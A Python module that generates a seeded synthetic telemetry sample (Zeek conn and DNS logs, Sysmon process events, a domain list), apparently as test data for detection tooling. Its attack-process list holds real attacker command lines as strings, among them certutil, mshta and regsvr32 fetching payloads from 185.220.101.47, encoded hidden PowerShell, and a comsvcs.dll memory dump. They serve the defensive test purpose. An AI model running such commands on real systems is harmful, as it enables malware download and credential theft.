"""A small, deliberately dirty sample of telemetry in real formats, made from a seed (same seed, same bytes).

`write_sample(out_dir)` writes six hours of one small network:
- `zeek/conn.log`, `zeek/dns.log`: Zeek TSV with `#separator`/`#fields`/`#types` headers, `-` for unset
  and `(empty)` for empty sets, one malformed line each, a `#close` trailer. conn.log holds a beacon
  (10.0.0.23 -> 185.220.101.47:443 every ~60 s with 10 % jitter); dns.log a few DGA-looking NXDOMAINs.
- `windows/process.ndjson`: flat ECS process events (dotted keys), Sysmon 1 plus one Security 4688
  (no parent command line, no entity id), one line cut short, a repeated event, missing users.
- `windows/sysmon.csv`: Sysmon EID 1 as CSV with Sysmon's own column names, with repeated rows and
  blank values.
- `lists/domains.txt`: one domain per line, with duplicates, upper case, a trailing dot and a blank line.

Example:
    >>> import tempfile
    >>> files = write_sample(tempfile.mkdtemp())
    >>> sorted(p.name for p in files)
    ['conn.log', 'dns.log', 'domains.txt', 'process.ndjson', 'sysmon.csv']
"""

from __future__ import annotations

import csv
import hashlib
import random
from datetime import UTC, datetime
from pathlib import Path

import orjson

START = 1709510400.0  # 2024-03-04T00:00:00Z
HOURS = 6
HOSTS = [f"10.0.0.{i}" for i in range(10, 40)]
DNS_SERVER = "10.0.0.2"
BEACON = ("10.0.0.23", "185.220.101.47", 443)
GOOD_DOMAINS = ["www.google.com", "login.microsoftonline.com", "github.com", "update.googleapis.com", "slack.com",
                "outlook.office365.com", "www.wikipedia.org", "cdn.jsdelivr.net", "zoom.us", "api.github.com",
                "settings-win.data.microsoft.com", "ocsp.digicert.com", "www.bbc.co.uk", "d1x2y3z4.cloudfront.net"]
WORKSTATIONS = ["WS01.corp.local", "WS02.corp.local", "WS03.corp.local", "SRV-DC1.corp.local"]
USERS = ["CORP\\alice", "CORP\\bob", "CORP\\carol", "NT AUTHORITY\\SYSTEM"]
BENIGN_PROCESSES = [  # (parent image, image, command line)
    (r"C:\Windows\explorer.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe", '"chrome.exe" --profile-directory=Default'),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe -RegisterDevice -Settings"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\System32\notepad.exe", r'"notepad.exe" C:\Users\alice\notes.txt'),
    (r"C:\Windows\System32\services.exe", r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\System32\cmd.exe", r'"cmd.exe" /c dir C:\Users\bob\Documents'),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\ipconfig.exe", "ipconfig /all"),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoProfile -Command Get-Service"),
]
ATTACK_PROCESSES = [
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://185.220.101.47/a.exe C:\\Users\\Public\\a.exe"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\System32\mshta.exe", "mshta.exe http://185.220.101.47/run.hta"),
    (r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\System32\regsvr32.exe", "regsvr32 /s /n /u /i:http://185.220.101.47/x.sct scrobj.dll"),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full"),
]
CONN_FIELDS = ("ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state "
               "local_orig local_resp missed_bytes history orig_pkts orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents")
CONN_TYPES = "time string addr port addr port enum string interval count count string bool bool count string count count count count set[string]"
DNS_FIELDS = ("ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto trans_id rtt query qclass qclass_name qtype qtype_name "
              "rcode rcode_name AA TC RD RA Z answers TTLs rejected")
DNS_TYPES = ("time string addr port addr port enum count interval string count string count string count string "
             "bool bool bool bool count vector[string] vector[interval] bool")
SYSMON_COLUMNS = ["UtcTime", "Computer", "EventID", "ProcessGuid", "ProcessId", "Image", "CommandLine", "User",
                  "IntegrityLevel", "Hashes", "ParentProcessGuid", "ParentProcessId", "ParentImage"]


def write_sample(out_dir: str | Path, seed: int = 0) -> list[Path]:
    """Write the sample files under `out_dir` (created if needed); returns their paths."""
    out = Path(out_dir)
    rng = random.Random(seed)
    files = [_write(out / "zeek" / "conn.log", _conn_log(rng)), _write(out / "zeek" / "dns.log", _dns_log(rng))]
    events = _process_events(rng)
    files.append(_write(out / "windows" / "process.ndjson", _ndjson(events)))
    files.append(_write(out / "windows" / "sysmon.csv", _sysmon_csv(_process_events(rng))))
    files.append(_write(out / "lists" / "domains.txt", _domains(rng)))
    return files


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8", newline="\n")
    return path


def _zeek(path: str, fields: str, types: str, rows: list[list[str]], malformed_at: int) -> str:
    head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", f"#path\t{path}",
            "#open\t2024-03-04-00-00-00", "#fields\t" + fields.replace(" ", "\t"), "#types\t" + types.replace(" ", "\t")]
    lines = ["\t".join(r) for r in sorted(rows, key=lambda r: float(r[0]))]
    lines.insert(malformed_at, lines[malformed_at].split("\t", 3)[0] + "\t" + "C" * 18 + "\t10.0.0.1")  # cut short
    return "\n".join(head + lines + [f"#close\t2024-03-04-{HOURS:02d}-00-00"]) + "\n"


def _uid(rng: random.Random) -> str:
    return "C" + "".join(rng.choice("abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(17))


def _conn_log(rng: random.Random) -> str:
    rows = []
    t = START
    while t < START + HOURS * 3600:  # the beacon: ~60 s apart, +-10 %
        rows.append(_conn_row(rng, t, BEACON[0], BEACON[1], BEACON[2], "ssl", "SF", rng.randint(380, 420)))
        t += 60 * rng.uniform(0.9, 1.1)
    for _ in range(2600):
        src, ts = rng.choice(HOSTS), START + rng.uniform(0, HOURS * 3600)
        kind = rng.random()
        if kind < 0.35:
            rows.append(_conn_row(rng, ts, src, DNS_SERVER, 53, "dns", "SF", rng.randint(30, 60), proto="udp"))
        elif kind < 0.9:
            dst = f"{rng.choice([13, 52, 104, 140, 151, 172])}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
            rows.append(_conn_row(rng, ts, src, dst, rng.choice([443, 443, 443, 80]), rng.choice(["ssl", "http", "-"]), "SF",
                                  int(rng.lognormvariate(7, 1.5))))
        else:  # scans and failures: no reply, so duration and bytes are unset
            rows.append(_conn_row(rng, ts, src, f"10.0.1.{rng.randint(1, 254)}", rng.choice([445, 3389, 22]), "-", "S0", None))
    return _zeek("conn", CONN_FIELDS, CONN_TYPES, rows, malformed_at=1234)


def _conn_row(rng: random.Random, ts: float, src: str, dst: str, port: int, service: str, state: str,
              sent: int | None, proto: str = "tcp") -> list[str]:
    unset = sent is None
    received = "-" if unset else str(int(sent * rng.uniform(0.5, 40)))
    duration = "-" if unset else f"{rng.expovariate(1 / 2.0):.6f}"
    pkts = 1 if unset else max(1, (sent or 0) // 500 + 1)
    return [f"{ts:.6f}", _uid(rng), src, str(rng.randint(49152, 65535)), dst, str(port), proto, service, duration,
            "-" if unset else str(sent), received, state, "T", "F" if not dst.startswith("10.") else "T", "0",
            "S" if unset else "ShADadFf", str(pkts), str(pkts * 40 + (sent or 0)), "0" if unset else str(pkts),
            "0" if unset else str(pkts * 40 + int(received)), "(empty)"]


def _dga(rng: random.Random) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randint(12, 20))) + rng.choice([".com", ".net", ".biz"])


def _dns_log(rng: random.Random) -> str:
    rows = []
    for _ in range(1000):
        ts, src = START + rng.uniform(0, HOURS * 3600), rng.choice(HOSTS)
        bad = rng.random() < 0.05
        query = _dga(rng) if bad else rng.choice(GOOD_DOMAINS)
        answered = not bad and rng.random() > 0.03
        answers = ",".join(f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
                           for _ in range(rng.randint(1, 3))) if answered else "-"
        ttls = ",".join(str(float(rng.choice([60, 300, 3600]))) for _ in answers.split(",")) if answered else "-"
        rcode = ("0", "NOERROR") if answered else ("3", "NXDOMAIN")
        rows.append([f"{ts:.6f}", _uid(rng), src, str(rng.randint(49152, 65535)), DNS_SERVER, "53", "udp",
                     str(rng.randint(1, 65535)), f"{rng.uniform(0.001, 0.09):.6f}", query, "1", "C_INTERNET", "1", "A",
                     *rcode, "F", "F", "T", "T" if answered else "F", "0", answers, ttls, "F"])
    return _zeek("dns", DNS_FIELDS, DNS_TYPES, rows, malformed_at=500)


def _guid(rng: random.Random) -> str:
    h = "%032x" % rng.getrandbits(128)
    return "{" + f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}" + "}"


def _process_events(rng: random.Random, n: int = 300) -> list[dict[str, str]]:
    """Sysmon EID 1 records under Sysmon's field names, time-ordered; about 3 % are attacks."""
    events = []
    for _ in range(n):
        parent, image, command = rng.choice(ATTACK_PROCESSES if rng.random() < 0.03 else BENIGN_PROCESSES)
        ts = datetime.fromtimestamp(START + rng.uniform(0, HOURS * 3600), UTC)
        digest = hashlib.sha256(image.encode()).hexdigest()
        events.append({
            "UtcTime": ts.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "Computer": rng.choice(WORKSTATIONS), "EventID": "1",
            "ProcessGuid": _guid(rng), "ProcessId": str(rng.randint(400, 20000)), "Image": image, "CommandLine": command,
            "User": rng.choice(USERS) if rng.random() > 0.05 else "", "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
            "Hashes": f"SHA1={digest[:40]},MD5={digest[:32]},SHA256={digest},IMPHASH={digest[-32:]}",
            "ParentProcessGuid": _guid(rng), "ParentProcessId": str(rng.randint(400, 20000)), "ParentImage": parent,
            "ParentCommandLine": parent.rsplit("\\", 1)[-1],
        })
    return sorted(events, key=lambda e: e["UtcTime"])


def _ndjson(events: list[dict[str, str]]) -> str:
    lines = []
    for e in events:
        record = {
            "@timestamp": e["UtcTime"].replace(" ", "T") + "Z", "event.code": "1", "event.provider": "Microsoft-Windows-Sysmon",
            "winlog.channel": "Microsoft-Windows-Sysmon/Operational", "host.name": e["Computer"],
            "user.name": e["User"] or None, "process.entity_id": e["ProcessGuid"], "process.pid": int(e["ProcessId"]),
            "process.executable": e["Image"], "process.name": e["Image"].rsplit("\\", 1)[-1],
            "process.command_line": e["CommandLine"], "process.hash.sha256": e["Hashes"].split("SHA256=")[1].split(",")[0],
            "process.parent.entity_id": e["ParentProcessGuid"], "process.parent.pid": int(e["ParentProcessId"]),
            "process.parent.executable": e["ParentImage"], "process.parent.name": e["ParentImage"].rsplit("\\", 1)[-1],
            "process.parent.command_line": e["ParentCommandLine"], "winlog.event_data.IntegrityLevel": e["IntegrityLevel"],
        }
        lines.append(orjson.dumps({k: v for k, v in record.items() if v is not None}).decode())
    lines.insert(40, lines[40])  # the same event shipped twice
    lines.insert(120, lines[120][: len(lines[120]) // 2])  # a line cut short by a crashed forwarder
    lines.append(orjson.dumps({  # Security 4688: no entity id, no parent command line, hex pids
        "@timestamp": "2024-03-04T05:59:58.000Z", "event.code": "4688", "event.provider": "Microsoft-Windows-Security-Auditing",
        "winlog.channel": "Security", "host.name": "SRV-DC1.corp.local", "user.name": "CORP\\svc_backup",
        "process.pid": 7012, "process.executable": r"C:\Windows\System32\wbem\WMIC.exe", "process.name": "WMIC.exe",
        "process.command_line": "wmic process call create \"cmd.exe /c whoami > C:\\Temp\\o.txt\"",
        "process.parent.pid": 4420, "process.parent.executable": r"C:\Windows\System32\cmd.exe", "process.parent.name": "cmd.exe",
        "winlog.event_data.IntegrityLevel": "High",
    }).decode())
    return "\n".join(lines) + "\n"


def _sysmon_csv(events: list[dict[str, str]]) -> str:
    import io

    rows = [{k: e[k] for k in SYSMON_COLUMNS} for e in events]
    rows[7]["CommandLine"] = ""  # blank values, as exports have them
    rows[8]["Hashes"] = ""
    rows += [dict(rows[i]) for i in (3, 50, 51)]  # repeated rows
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=SYSMON_COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()


def _domains(rng: random.Random) -> str:
    names = [rng.choice(GOOD_DOMAINS) for _ in range(200)] + [_dga(rng) for _ in range(40)]
    rng.shuffle(names)
    names[5], names[9] = names[5].upper(), names[9] + "."
    names.insert(100, "")
    return "\n".join(names) + "\n"
